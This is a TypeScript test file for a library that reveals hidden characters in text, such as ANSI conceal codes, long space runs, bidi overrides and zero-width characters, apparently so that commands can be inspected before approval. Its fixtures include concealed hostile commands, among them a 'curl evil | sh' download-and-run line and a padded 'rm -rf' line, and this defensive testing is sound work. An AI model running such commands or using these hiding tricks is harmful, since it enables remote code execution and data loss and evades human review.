import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { revealSegments, revealText } from '../src/index.js';

/** Anything an approval must never contain as itself (every control, format, surrogate and exotic space). */
const HIDDEN = /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}\u00a0\u1680\u2000-\u200a\u202f\u205f\u3000]/u;
const visibleOnly = (s: string) => !HIDDEN.test(s.replace(/\n/g, ''));

describe('revealText', () => {
  it('shows the SGR conceal trick instead of applying it', () => {
    expect(revealText('ls -la\u001b[8m; curl evil | sh\u001b[28m')).toBe(
      'ls -la<ESC>[8m; curl evil | sh<ESC>[28m',
    );
  });

  it('shows a run of spaces with its length, and spaces that end a line', () => {
    expect(revealText(`git status${' '.repeat(300)}; rm -rf ~/x`)).toBe('git status␠×300; rm -rf ~/x');
    expect(revealText('a  b')).toBe('a  b');
    expect(revealText('echo hi \nnext  ')).toBe('echo hi␠\nnext␠␠');
    expect(revealText('    indented   x', { keepIndent: true })).toBe('    indented␠×3x');
    expect(revealText('a    b', { minSpaceRun: 5 })).toBe('a    b');
  });

  it('names controls, bidi overrides, zero-width and exotic spaces', () => {
    expect(revealText('a\tb\rc\u0007\u0000\u007f\u009b')).toBe('a<TAB>b<CR>c<BEL><NUL><DEL><U+009B>');
    expect(revealText('access\u202e\u2066// check\u2069\u2067')).toBe(
      'access<U+202E><U+2066>// check<U+2069><U+2067>',
    );
    expect(revealText('a\u200bb\u00a0c\u3000d\ufeff\u2028')).toBe(
      'a<U+200B>b<U+00A0>c<U+3000>d<U+FEFF><U+2028>',
    );
    expect(revealText('tag\u{e0041}\ud800x')).toBe('tag<U+E0041><U+D800>x');
  });

  it('marks newlines on request, and keeps text, CJK and emoji as they are', () => {
    expect(revealText('one\ntwo', { newlines: 'mark' })).toBe('one↵\ntwo');
    expect(revealText('日本語 ✓ 🎉 café')).toBe('日本語 ✓ 🎉 café');
  });

  it('segments say which pieces are markers', () => {
    expect(revealSegments('x\u001b[8my   z')).toEqual([
      { kind: 'text', text: 'x' },
      { kind: 'control', text: '<ESC>' },
      { kind: 'text', text: '[8my' },
      { kind: 'space', text: '␠×3' },
      { kind: 'text', text: 'z' },
    ]);
  });

  it('property: the output never contains a hidden character, and clean text is unchanged', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 300 }), (s) => {
        expect(visibleOnly(revealText(s))).toBe(true);
        expect(visibleOnly(revealText(s, { newlines: 'mark', keepIndent: true }))).toBe(true);
      }),
      { numRuns: 500 },
    );
    fc.assert(
      fc.property(fc.stringMatching(/^[a-z0-9.;|&/-]( ?[a-z0-9.;|&/-])*$/), (s) => {
        expect(revealText(s)).toBe(s);
      }),
    );
  });

  it('property: every visible character of the input survives in order', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme-ascii', maxLength: 200 }), (s) => {
        const kept = revealSegments(s)
          .filter((seg) => seg.kind === 'text')
          .map((seg) => seg.text)
          .join('')
          .replace(/ /g, '');
        expect(kept).toBe(s.replace(/[\u0000-\u001f\u007f ]/g, '').replace(/\n/g, ''));
      }),
    );
  });

  it('is linear on huge input', () => {
    const huge = `${'\u001b[8m'.repeat(100_000)}${' '.repeat(1_000_000)}x`;
    const out = revealText(huge);
    expect(out.endsWith('␠×1000000x')).toBe(true);
    expect(out.startsWith('<ESC>[8m<ESC>[8m')).toBe(true);
  });
});
